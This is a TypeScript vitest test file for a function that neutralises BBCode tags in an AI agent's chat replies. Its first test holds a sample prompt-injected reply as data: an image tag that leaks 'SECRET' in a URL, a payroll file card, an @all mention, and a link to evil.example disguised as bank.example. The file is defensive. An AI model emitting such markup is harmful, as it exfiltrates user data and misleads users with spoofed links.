import { describe, expect, it } from 'vitest';
import { neutralizeBBCode } from '../../../../bridge/message/neutralize.js';
import { clientParse, clientRender } from '../../../support/tailchat-bbcode.js';

/** Tag names the client would act on in `content` (test/support/tailchat-bbcode.ts). */
const actedTags = (content: string) =>
  clientRender(content).flatMap((n) => (typeof n === 'string' || (n.tag === 'url' && Object.keys(n.attrs).length === 0) ? [] : [n.tag]));

describe('neutralizeBBCode (agent output, issue #18 item 4)', () => {
  it('makes inert the tags found in a prompt-injected reply: a tab after the name, cards, mentions of everyone', () => {
    const reply = [
      'Here you go [img\turl=https://x.example/p.png?d=SECRET]https://x.example/p.png?d=SECRET[/img]',
      '[card\ttype=file url=https://x.example/payroll.pdf]payroll.pdf[/card]',
      '[at=all]everyone[/at] [IMG]https://x.example/q.png[/IMG] [url=https://evil.example]https://bank.example[/url]',
      '[md]![x](https://x.example/md.png)[/md] [emoji]smile[/emoji]',
    ].join('\n');
    // Without neutralising, Tailchat's client reads every one of them.
    expect(actedTags(reply)).toEqual(['img', 'card', 'at', 'img', 'url', 'md', 'emoji']);
    const out = neutralizeBBCode(reply);
    expect(actedTags(out)).toEqual([]);
    expect(clientParse(out).every((n) => typeof n === 'string')).toBe(true);
    expect(out).toContain('［img\turl=https://x.example/p.png?d=SECRET］');
    expect(out).toContain('［at=all］everyone［/at］');
  });

  it('keeps markdown, code and ordinary brackets exactly as written', () => {
    const text = '[Answered by the coding expert] see [the docs](https://d.example) [1]\n```js\nfor (const i of a) b[i] = a[s] + c[u];\n```';
    expect(neutralizeBBCode(text)).toBe(text);
  });

  it('an index like a[i] stays beside neutralised tags, unless the message closes it', () => {
    expect(neutralizeBBCode('[img]u[/img] and a[i]')).toBe('［img］u［/img］ and a[i]');
    expect(neutralizeBBCode('a[i] x [/index]')).toBe('a［i］ x [/index]');
    expect(actedTags('a[i] x [/index]')).toEqual(['i']);
  });

  it('a bare URL still becomes the client\'s own link, labelled with itself', () => {
    const out = neutralizeBBCode('read https://d.example/page [b]now[/b]');
    expect(out).toBe('read https://d.example/page ［b］now［/b］');
    expect(clientRender(out).filter((n) => typeof n !== 'string')).toMatchObject([{ tag: 'url', attrs: {}, content: ['https://d.example/page'] }]);
  });
});
